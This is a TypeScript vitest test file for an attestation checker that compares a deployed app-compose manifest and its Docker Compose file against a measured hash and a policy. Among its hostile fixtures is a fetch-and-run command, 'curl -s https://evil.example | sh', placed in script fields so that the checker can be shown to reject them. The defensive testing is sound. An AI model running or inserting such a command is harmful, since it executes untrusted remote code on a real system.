import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { appraiseSourceCode, type SourceCodeInput } from '../../../../../src/core/appraisal/source-code/index.js';
import type { JsonValue } from '../../../../../src/core/formats/codec/json.js';
import { type Policy, parsePolicy } from '../../../../../src/core/policy/policy.js';
import type { Check } from '../../../../../src/core/result/document.js';
import { check, SOURCE_POLICY, simulate } from '../simulated.js';

const YAML = 'services:\n  web:\n    image: registry.example/app@sha256:00\n';
const sha256 = (text: string): string => createHash('sha256').update(text).digest('hex');
const bytes = (text: string): Uint8Array => new TextEncoder().encode(text);
const BARE = { manifest_version: 2, name: 'app', runner: 'docker-compose', docker_compose_file: YAML };

interface Given {
  /** Text of the app-compose that runs, and that the target tells. */
  deployed?: string;
  reported?: string | null;
  file?: string | null;
  policy?: Partial<Policy['sourceCode']>;
  input?: Partial<SourceCodeInput>;
}

/** A launch that measured the hash of just that text. */
function judged({ deployed = JSON.stringify(BARE), reported = deployed, file = YAML, policy = {}, input = {} }: Given) {
  const { report, eventLog, deployment } = simulate({
    events: (events) =>
      events.map((event) =>
        event.event === 'compose-hash' ? { ...event, payload: Buffer.from(sha256(deployed), 'hex') } : event,
      ),
    app: { mrConfig: 'none' },
  });
  return appraiseSourceCode({
    component: 'app/0',
    report,
    eventLog,
    expectedAppCompose: null,
    expectedComposeFile: file === null ? null : { label: 'docker-compose.yml', bytes: bytes(file) },
    reportedAppCompose: reported,
    explain: true,
    appId: null,
    mrConfigDocument: deployment.mrConfigDocument,
    policy: { ...SOURCE_POLICY, ...policy },
    ...input,
  });
}

const IDS = ['source-code.compose-hash', 'source-code.compose-file', 'source-code.app-compose'] as const;
const statuses = (given: Given): (string | undefined)[] => {
  const { checks } = judged(given);
  return IDS.map((id) => checks.find((one) => one.id === id)?.status);
};
const found = (given: Given, id: Check['id']): Check => check(judged(given), id);
const withMembers = (members: Record<string, unknown>): string => JSON.stringify({ ...BARE, ...members });

describe('a Docker Compose file that is expected', () => {
  it('passes, and the measured hash with it, where nothing else in the app-compose does anything', () => {
    expect(statuses({})).toEqual(['pass', 'pass', 'pass']);
    expect(judged({}).expectedComposeHash).toBe(sha256(JSON.stringify(BARE)));
    expect(found({}, 'source-code.compose-hash').detail).toBe(
      'The measured compose hash is of an app-compose with the expected Docker Compose file, all else accepted.',
    );
  });

  it('is compared in none of the checks where it is not given', () => {
    expect(statuses({ file: null })).toEqual(['unknown', undefined, undefined]);
  });

  it.each<[string, string, object]>([
    [
      'another image',
      YAML.replace('sha256:00', 'sha256:01'),
      { diff: expect.arrayContaining(['-    image: registry.example/app@sha256:01']) },
    ],
    ['other line ends', YAML.replaceAll('\n', '\r\n'), { expected: 'CRLF line ends', actual: 'LF line ends' }],
    ['no final newline', YAML.trimEnd(), { expected: 'no final newline', actual: 'a final newline' }],
    ['a byte order mark', `\ufeff${YAML}`, { expected: 'a byte order mark', actual: 'no byte order mark' }],
    ['a space more', YAML.replace('web:', 'web: '), { diff: expect.anything() }],
  ])('fails for %s', (_, file, difference) => {
    expect(statuses({ file })).toEqual(['unknown', 'fail', 'pass']);
    expect(found({ file }, 'source-code.compose-file').differences).toEqual([
      { path: 'docker_compose_file', ...difference },
    ]);
    expect(judged({ file }).expectedComposeHash).toBeNull();
  });

  it('says of form alone how to keep it', () => {
    const { detail, hint } = found({ file: YAML.replaceAll('\n', '\r\n') }, 'source-code.compose-file');
    expect(detail).toBe(
      'The Docker Compose file that runs is docker-compose.yml but for its form, and every byte counts.',
    );
    expect(hint).toContain('`-text` in .gitattributes');
  });

  it.each<[string, unknown]>([
    ['no such member', undefined],
    ['null', null],
    ['an object', { services: {} }],
  ])('fails where the app-compose has %s', (_, docker_compose_file) => {
    expect(statuses({ deployed: withMembers({ docker_compose_file }) })).toEqual(['unknown', 'fail', 'pass']);
  });

  it('is not shown to be what runs where no runner is named', () => {
    const deployed = withMembers({ runner: undefined });
    expect(statuses({ deployed })).toEqual(['unknown', 'pass', 'unknown']);
    expect(found({ deployed }, 'source-code.app-compose').detail).toContain('names no runner');
    expect(statuses({ deployed, policy: { appCompose: { runner: null } } })).toEqual(['pass', 'pass', 'pass']);
  });

  it('does not take half a character for the one that stands for it', () => {
    const deployed = JSON.stringify({ ...BARE, docker_compose_file: '\ud800' });
    expect(statuses({ deployed, file: '\ufffd' })[1]).toBe('fail');
    const notUtf8 = { label: 'docker-compose.yml', bytes: Uint8Array.of(0xff) };
    expect(statuses({ input: { expectedComposeFile: notUtf8 } })[1]).toBe('fail');
  });

  it.each<[string, Given]>([
    ['the evidence does not hold the app-compose', { reported: null }],
    ['it holds another', { reported: `${JSON.stringify(BARE)}\n` }],
    ['it holds another with the hash of neither', { reported: withMembers({ name: 'other' }) }],
    ['the one that runs has a member twice', { deployed: '{"docker_compose_file":"a","docker_compose_file":"b"}' }],
    ['the one that runs is no object', { deployed: '[]' }],
    ['there is no event log', { input: { eventLog: null } }],
  ])('is unknown where %s', (_, given) => {
    expect(statuses(given)).toEqual(['unknown', 'unknown', 'unknown']);
  });

  it('takes the text that is read from the file given, too', () => {
    const deployed = JSON.stringify(BARE);
    const file = { sha256: sha256(deployed), label: 'app-compose.json', bytes: bytes(deployed) };
    expect(statuses({ reported: null, input: { expectedAppCompose: file } })).toEqual(['pass', 'pass', 'pass']);
  });

  it('is unknown where the log does not replay', () => {
    const { eventLog } = simulate({});
    expect(statuses({ input: { eventLog } })).toEqual(['unknown', 'unknown', 'unknown']);
  });
});

describe('what the app-compose says besides', () => {
  const SCRIPT = 'curl -s https://evil.example | sh\n';
  const HOSTILE: [string, JsonValue][] = [
    ['runner', 'bash'],
    ['runner', 'nerdctl-compose'],
    ['runner', 'Docker-Compose'],
    ['bash_script', SCRIPT],
    ['init_script', SCRIPT],
    ['init_script', [SCRIPT]],
    ['pre_launch_script', SCRIPT],
    ['pre_launch_script', ' '],
    ['pre_launch_script', null],
    ['allowed_envs', ['IMAGE']],
    ['allowed_envs', 'IMAGE'],
    ['docker_config', { registry: 'evil.example' }],
    ['features', ['kms']],
    ['kms_enabled', true],
    ['gateway_enabled', true],
    ['tproxy_enabled', true],
    ['local_key_provider_enabled', true],
    ['key_provider', 'tpm'],
    ['key_provider_id', '00'],
    ['public_logs', true],
    ['public_logs', 'false'],
    ['public_sysinfo', true],
    ['public_tcbinfo', false],
    ['no_instance_id', true],
    ['secure_time', false],
    ['storage_fs', 'ext4'],
    ['swap_size', 0],
    ['snapshotter', 'stargz'],
    ['event_log_version', 2],
    ['port_policy', {}],
    ['requirements', null],
    ['verity_volumes', []],
    ['launch_token_hash', '00'],
    ['manifest_version', 9],
    ['name', { toString: 'x' }],
    ['never_heard_of', null],
    ['Runner', 'docker-compose'],
    ['constructor', 1],
  ];

  it.each(HOSTILE)('is never silently accepted: %s: %j', (name, value) => {
    const deployed = withMembers({ [name]: value });
    expect(statuses({ deployed })).toEqual(['unknown', 'pass', 'unknown']);
    const { detail, hint, policyLines } = found({ deployed }, 'source-code.app-compose');
    expect(detail).toContain(`says more than its Docker Compose file: ${name}.`);
    expect(hint).toContain('source-code.app-compose');
    expect(policyLines?.slice(0, 2)).toEqual(['source-code:', '  app-compose:']);
  });

  it.each(HOSTILE)('is accepted by just the lines that it says: %s: %j', async (name, value) => {
    const deployed = withMembers({ [name]: value });
    const { policyLines = [] } = found({ deployed }, 'source-code.app-compose');
    const { sourceCode } = await parsePolicy(['version: 1', ...policyLines].join('\n'));
    expect(statuses({ deployed, policy: { appCompose: sourceCode.appCompose } })).toEqual(['pass', 'pass', 'pass']);
    // … and by them alone: another value, or no such member, is not what was accepted.
    for (const other of ['anything else', undefined]) {
      const changed = withMembers({ [name]: other });
      const isAbsenceListed = value === null && other === undefined;
      expect(statuses({ deployed: changed, policy: { appCompose: sourceCode.appCompose } })).toEqual(
        isAbsenceListed ? ['pass', 'pass', 'pass'] : ['unknown', 'pass', 'fail'],
      );
    }
  });

  it.each<[string, JsonValue]>([
    ['manifest_version', 1],
    ['manifest_version', 2],
    ['manifest_version', '1'],
    ['manifest_version', '2'],
    ['name', 'any name'],
    ['runner', 'docker-compose'],
    ['features', []],
    ['docker_config', {}],
    ['init_script', ''],
    ['pre_launch_script', ''],
    ['bash_script', ''],
    ['kms_enabled', false],
    ['gateway_enabled', false],
    ['tproxy_enabled', false],
    ['local_key_provider_enabled', false],
    ['key_provider', null],
    ['key_provider_id', ''],
    ['public_logs', false],
    ['public_sysinfo', false],
    ['public_tcbinfo', true],
    ['allowed_envs', []],
    ['no_instance_id', false],
    ['secure_time', true],
    ['storage_fs', null],
  ])('changes nothing, and needs no word: %s: %j', (name, value) => {
    expect(statuses({ deployed: withMembers({ [name]: value }) })).toEqual(['pass', 'pass', 'pass']);
  });

  it('stands in the policy by its digest where it is long, and by nothing where it has no exact form', async () => {
    const script = `#!/bin/sh\n${'echo ready\n'.repeat(500)}`;
    const deployed = withMembers({ pre_launch_script: script, ratio: 0.5, 'two words': 1, half: '\ud800' });
    const { detail, policyLines, differences } = found({ deployed }, 'source-code.app-compose');
    expect(detail).toContain('half; pre_launch_script; ratio; "two words"');
    expect(policyLines).toEqual(['source-code:', '  app-compose:', `    pre_launch_script: sha256:${sha256(script)}`]);
    expect(differences?.find(({ path }) => path === 'pre_launch_script')?.diff?.slice(0, 2)).toEqual([
      '+#!/bin/sh',
      '+echo ready',
    ]);
    const appCompose = { pre_launch_script: `sha256:${sha256(script)}` };
    expect(statuses({ deployed: withMembers({ pre_launch_script: script }), policy: { appCompose } })[2]).toBe('pass');
    for (const other of [`${script} `, appCompose.pre_launch_script, [script], null]) {
      const changed = withMembers({ pre_launch_script: other });
      expect(statuses({ deployed: changed, policy: { appCompose } })[2]).toBe('fail');
    }
  });

  it('is not read where a number in it is another than JSON readers take it for', async () => {
    for (const [written, read] of [
      ['9007199254740993', 9007199254740992],
      ['1.00000000000000001', 1],
      ['-0', 0],
    ]) {
      const deployed = JSON.stringify(BARE).replace('}', `,"swap_size":${written}}`);
      const given = { deployed, policy: { appCompose: { swap_size: Number(read) } } };
      expect(statuses(given)).not.toContain('pass');
      expect(found(given, 'source-code.app-compose').detail).toMatch(
        /^The app-compose that runs cannot be read: app-compose \(offset \d+\): the number .* is read as /,
      );
    }
    const same = withMembers({ swap_size: 2 }).replace(':2}', ':2.0}');
    expect(statuses({ deployed: same, policy: { appCompose: { swap_size: 2 } } })).toEqual(['pass', 'pass', 'pass']);
  });

  it('needs no acceptance where the whole file is accepted, but what the policy lists must hold', () => {
    const deployed = withMembers({ public_logs: true });
    const composeHashes = [sha256(deployed)];
    expect(statuses({ deployed, policy: { composeHashes } })).toEqual(['pass', 'pass', 'pass']);
    expect(statuses({ deployed, policy: { composeHashes, appCompose: { public_logs: false } } })).toEqual([
      'pass',
      'pass',
      'fail',
    ]);
    expect(statuses({ deployed, policy: { composeHashes: ['00'.repeat(32)] } })).toEqual(['fail', 'pass', 'unknown']);
    const other = { sha256: '00'.repeat(32), label: 'app-compose.json', bytes: bytes('{}') };
    expect(statuses({ deployed, input: { expectedAppCompose: other } })).toEqual(['fail', 'pass', 'unknown']);
    expect(statuses({ deployed, file: 'other', policy: { composeHashes } })).toEqual(['pass', 'fail', 'pass']);
  });

  it('is compared with what the policy lists without a Docker Compose file, too, and makes no hash expected', () => {
    const deployed = withMembers({ public_logs: true });
    const judge = (appCompose: Policy['sourceCode']['appCompose'], reported: string | null = deployed) =>
      statuses({ deployed, reported, file: null, policy: { appCompose } });
    expect(judge({ public_logs: true })).toEqual(['unknown', undefined, 'pass']);
    expect(judge({ public_logs: false })).toEqual(['unknown', undefined, 'fail']);
    expect(judge({ public_logs: true }, null)).toEqual(['unknown', undefined, 'unknown']);
    expect(judge({ bash_script: null, public_logs: true })).toEqual(['unknown', undefined, 'pass']);
  });

  it('is shown of the first machines alone, and judged of all', () => {
    const deployed = withMembers({ pre_launch_script: SCRIPT });
    const { status, differences, policyLines } = found(
      { deployed, input: { explain: false } },
      'source-code.app-compose',
    );
    expect([status, differences, policyLines]).toEqual(['unknown', undefined, undefined]);
    const other = found({ file: 'other', input: { explain: false } }, 'source-code.compose-file');
    expect([other.status, other.differences]).toEqual(['fail', undefined]);
  });
});
